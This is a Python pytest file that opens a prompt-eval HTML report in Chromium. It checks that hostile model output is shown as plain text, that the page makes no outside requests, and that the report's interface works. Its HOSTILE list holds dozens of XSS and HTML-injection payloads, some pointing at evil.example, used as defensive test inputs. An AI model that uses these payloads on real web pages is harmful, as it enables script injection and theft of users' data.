"""The HTML report in a real browser: what a model said stays text, and the list of cases can be worked with."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from chromium import browser_paths, chromium, opened
from run_documents import made_document, made_report, made_suite
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.support.wait import WebDriverWait

from pytest_promptgate.core.run_document import RunDocument
from pytest_promptgate.core.types import Score
from pytest_promptgate.reports.html import html_text

if TYPE_CHECKING:
    from collections.abc import Iterator

    from selenium.webdriver import Chrome

PATHS = browser_paths()
pytestmark = pytest.mark.skipif(PATHS is None, reason="no Chromium with chromedriver is installed")

HOSTILE = (
    "<script>window.canary = 1</script>",
    "</script><script>window.canary = 1</script>",
    "</SCRIPT ><script>window.canary=1</script>",
    '</script><script src="https://evil.example/x.js"></script>',
    "<!--<script>window.canary = 1</script>",
    "--></script><script>window.canary = 1//",
    '"}]}</script><svg onload="window.canary = 1">',
    '<img src=x onerror="window.canary = 1">',
    "<svg/onload=window.canary=1>",
    '<body onload="window.canary = 1">',
    '<iframe src="javascript:parent.canary = 1"></iframe>',
    '<iframe srcdoc="<script>parent.canary = 1</script>"></iframe>',
    '<a href="javascript:window.canary=1" autofocus onfocus=window.canary=1>x</a>',
    '<form action="https://evil.example"><input name=a><button autofocus>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>body { display: none } @import url(https://evil.example)</style>",
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<video><source onerror="window.canary=1"></video>',
    '<details open ontoggle="window.canary = 1">',
    "<title>PASSED</title><h1>PASSED</h1>",
    "<template><script>window.canary = 1</script></template>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.canary=1>",
    "<noscript><p title='</noscript><img src=x onerror=window.canary=1>'>",
    "${window.canary = 1} {{constructor.constructor('window.canary=1')()}}",
    "javascript:window.canary=1",
    "' onmouseover='window.canary=1' x='",
    '" onfocus="window.canary=1" autofocus tabindex=1 x="',
    "__proto__",
    "constructor",
    "\u202eDESSAP\u202c \u2066x\u2069 \u200b\ufeff",
    "\u2028window.canary = 1\u2029",
    "\x00\x1b[31mred\x07 \ud800",
    "&lt;script&gt;window.canary=1&lt;/script&gt; &#x3c;b>",
    "]]><script>window.canary = 1</script>",
    "PASSED\n\n=====\n" + "A" * 5000,
)


@pytest.fixture(scope="module")
def driver() -> Iterator[Chrome]:
    assert PATHS is not None
    with chromium(PATHS) as started:
        yield started


def page_of(tmp_path: Path, document: RunDocument) -> Path:
    page = tmp_path / "report.html"
    page.write_text(html_text(document), encoding="utf-8")
    return page


def hostile_document() -> RunDocument:
    """Hostile texts wherever anybody but us writes: ids, inputs, answers, reasons, names, files, notes, arguments."""
    ids = {f"c-{at}-{text[:60]}": text for at, text in enumerate(HOSTILE)}
    report = made_report(
        {name: [1.0] for name in ids},
        {name: [Score(value=0.0, reason=text, labels=(text, text))] for name, text in ids.items()},
        old={name: f"{text} was" for name, text in ids.items()},
        new={name: f"{text} is" for name, text in ids.items()},
        inputs={name: {text: text, "list": [text, {text: text}]} for name, text in ids.items()},
    )
    suite = made_suite(report)
    text = "".join(HOSTILE[:30])
    cases = tuple(replace(case, tags=(case.id,), slices=(f"a={case.id}",), problem=text) for case in suite.cases)
    changed = replace(suite.differences, prompt=text, prompt_diff=(f"+{text}", f"-{text}"), accepted=(text,))
    suite = replace(suite, title=text, name=text, notes=(text,), cases=cases, differences=changed, partial=text)
    return made_document(suite, suite, notes=(text,), arguments=(text,), reasons=(text,))


def script(driver: Chrome, code: str, *given: Any) -> Any:
    return driver.execute_script(code, *given)


def click(driver: Chrome, selector: str) -> None:
    script(driver, "document.querySelector(arguments[0]).click()", selector)


def requests_of(driver: Chrome) -> list[str]:
    """Addresses that were asked for since the last look."""
    entries = (json.loads(entry["message"])["message"] for entry in driver.get_log("performance"))  # type: ignore[no-untyped-call]
    sent = (each for each in entries if each["method"] == "Network.requestWillBeSent")
    return [each["params"]["request"]["url"] for each in sent]


def shown_cases(driver: Chrome) -> list[str]:
    return [each.text for each in driver.find_elements(By.CSS_SELECTOR, ".row .name")]


def test_nothing_that_was_said_runs_asks_or_becomes_an_element(driver: Chrome, tmp_path: Path) -> None:
    page = page_of(tmp_path, hostile_document())
    requests_of(driver)
    said = opened(driver, page)
    for number in range(len(HOSTILE)):
        script(driver, "document.querySelector('.list').scrollTop = arguments[0] * 40", number)
        driver.find_element(By.CSS_SELECTOR, "body").send_keys("j", Keys.ENTER)

    assert script(driver, "return window.canary") is None
    assert said == []
    assert {each for each in requests_of(driver) if not each.startswith(("file:", "about:", "data:"))} == set()
    foreign = "img, iframe, object, embed, form, base, link, video, template, math, meta[http-equiv=refresh]"
    assert script(driver, "return document.querySelectorAll(arguments[0]).length", foreign) == 0
    assert script(driver, "return document.querySelectorAll('script').length") == 2
    assert script(driver, "return document.querySelectorAll('style').length") == 1
    handlers = (
        "return [...document.querySelectorAll('*')].filter(e => e.getAttributeNames().some(n => /^on/.test(n))).length"
    )
    assert script(driver, handlers) == 0
    assert driver.title == "FAILED - prompt evals"
    assert script(driver, "return Object.keys(Object.prototype).length") == 0


def test_every_hostile_answer_is_shown_as_it_was_said(driver: Chrome, tmp_path: Path) -> None:
    opened(driver, page_of(tmp_path, hostile_document()))
    click(driver, ".row")
    sides = [each.text for each in driver.find_elements(By.CSS_SELECTOR, ".sides pre")]

    assert sides == [f"{HOSTILE[0]} was", f"{HOSTILE[0]} is"]


def flipping(cases: int) -> RunDocument:
    """A document in which every second case flipped; a German slice."""
    names = [f"c-{at:05}" for at in range(cases)]
    report = made_report(
        {name: [1.0] for name in names},
        {name: [float(at % 2)] for at, name in enumerate(names)},
        new={names[3]: "a needle in the hay"},
    )
    suite = made_suite(report)
    german = tuple(replace(case, slices=("language=de",) if at < 4 else ()) for at, case in enumerate(suite.cases))
    return made_document(replace(suite, cases=german))


def test_filters_search_and_slices_narrow_the_list(driver: Chrome, tmp_path: Path) -> None:
    opened(driver, page_of(tmp_path, flipping(10)))
    first = shown_cases(driver)
    driver.find_element(By.XPATH, "//button[contains(., 'all 10')]").click()
    everything = shown_cases(driver)
    driver.find_element(By.CSS_SELECTOR, "select[aria-label=Slice]").send_keys("language=de")
    german = shown_cases(driver)
    driver.find_element(By.CSS_SELECTOR, "input[type=search]").send_keys("NEEDLE")
    WebDriverWait(driver, 10).until(lambda _: len(shown_cases(driver)) == 1)

    assert first == ["c-00000", "c-00002", "c-00004", "c-00006", "c-00008"]
    assert len(everything) == 10
    assert sorted(german) == ["c-00000", "c-00001", "c-00002", "c-00003"]
    assert shown_cases(driver) == ["c-00003"]
    assert driver.find_element(By.CSS_SELECTOR, ".count").text == "1 of 10 cases"


def test_a_row_tells_what_was_said_before_and_now(driver: Chrome, tmp_path: Path) -> None:
    same = "All of this was said before, and it is said again: "
    report = made_report({"a": [1.0]}, {"a": [0.0]}, old={"a": f"{same}yes"}, new={"a": f"{same}no"})
    opened(driver, page_of(tmp_path, made_document(made_suite(report))))

    assert driver.find_element(By.CSS_SELECTOR, ".row .text").text == "… is said again: yes → … is said again: no"


def test_keys_walk_open_and_close(driver: Chrome, tmp_path: Path) -> None:
    opened(driver, page_of(tmp_path, flipping(10)))
    body = driver.find_element(By.TAG_NAME, "body")
    body.send_keys("j", "j", Keys.ENTER)
    title = driver.find_element(By.CSS_SELECTOR, ".case h3").text
    address = driver.current_url.partition("#")[2]
    driver.switch_to.active_element.send_keys(Keys.ESCAPE)
    closed = driver.find_element(By.CSS_SELECTOR, ".case").is_displayed()
    body.send_keys("/")
    focused = driver.switch_to.active_element.get_attribute("type")

    assert title.startswith("c-00002")
    assert address == "mark=worse&open=0%2Fc-00002"
    assert (closed, focused) == (False, "search")


def test_a_link_leads_to_its_case(driver: Chrome, tmp_path: Path) -> None:
    page = page_of(tmp_path, flipping(300))
    opened(driver, page, "#mark=worse&open=0%2Fc-00298")

    assert driver.find_element(By.CSS_SELECTOR, ".case h3").text.startswith("c-00298")
    assert driver.find_element(By.CSS_SELECTOR, ".row[aria-selected=true] .name").text == "c-00298"


def test_of_five_thousand_cases_only_those_that_are_seen_are_in_the_document(driver: Chrome, tmp_path: Path) -> None:
    opened(driver, page_of(tmp_path, flipping(5000)))
    driver.find_element(By.XPATH, "//button[contains(., 'all 5000')]").click()
    script(driver, "document.querySelector('.list').scrollTop = 4999 * 40")
    WebDriverWait(driver, 10).until(lambda _: "c-04999" in shown_cases(driver))

    assert len(driver.find_elements(By.CSS_SELECTOR, ".row")) < 60
    assert script(driver, "return document.querySelectorAll('*').length") < 700


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_text_stands_out_from_its_ground(driver: Chrome, tmp_path: Path, scheme: str) -> None:
    feature = {"features": [{"name": "prefers-color-scheme", "value": scheme}]}
    driver.execute_cdp_cmd("Emulation.setEmulatedMedia", feature)
    opened(driver, page_of(tmp_path, flipping(10)), "#mark=worse&open=0%2Fc-00002")
    faint = script(
        driver,
        """
        const rgb = (text) => text.match(/[\\d.]+/g).map(Number);
        const light = (text) => rgb(text).slice(0, 3).map((v) => v / 255)
          .map((v) => (v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4))
          .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
        const ground = (node) => {
          for (let at = node; at; at = at.parentElement) {
            const found = getComputedStyle(at).backgroundColor;
            if (rgb(found)[3] !== 0) return found;
          }
          return "rgb(255, 255, 255)";
        };
        const texts = [...document.querySelectorAll("body *")].filter((node) => !node.closest("script, svg, .skip")
          && node.checkVisibility() && [...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim()));
        return texts.map((node) => {
          const [a, b] = [light(getComputedStyle(node).color), light(ground(node))].sort((x, y) => y - x);
          return [node.textContent.slice(0, 40), (a + 0.05) / (b + 0.05)];
        }).filter(([, ratio]) => ratio < 4.5);
        """,
    )

    assert faint == []


def test_a_phone_scrolls_in_one_direction(driver: Chrome, tmp_path: Path) -> None:
    size = {"width": 360, "height": 740, "deviceScaleFactor": 1, "mobile": True}
    driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", size)
    try:
        opened(driver, page_of(tmp_path, hostile_document()))
        click(driver, ".row")
        wide, seen = script(driver, "return [document.documentElement.scrollWidth, innerWidth]")
    finally:
        driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})

    assert wide <= seen
